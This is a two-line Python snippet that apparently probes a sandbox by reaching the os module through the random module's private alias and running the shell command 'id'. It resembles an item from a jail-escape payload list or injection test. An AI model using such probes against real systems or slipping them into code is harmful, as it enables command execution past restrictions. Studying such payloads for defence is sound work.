from random import *
_os.system("id")
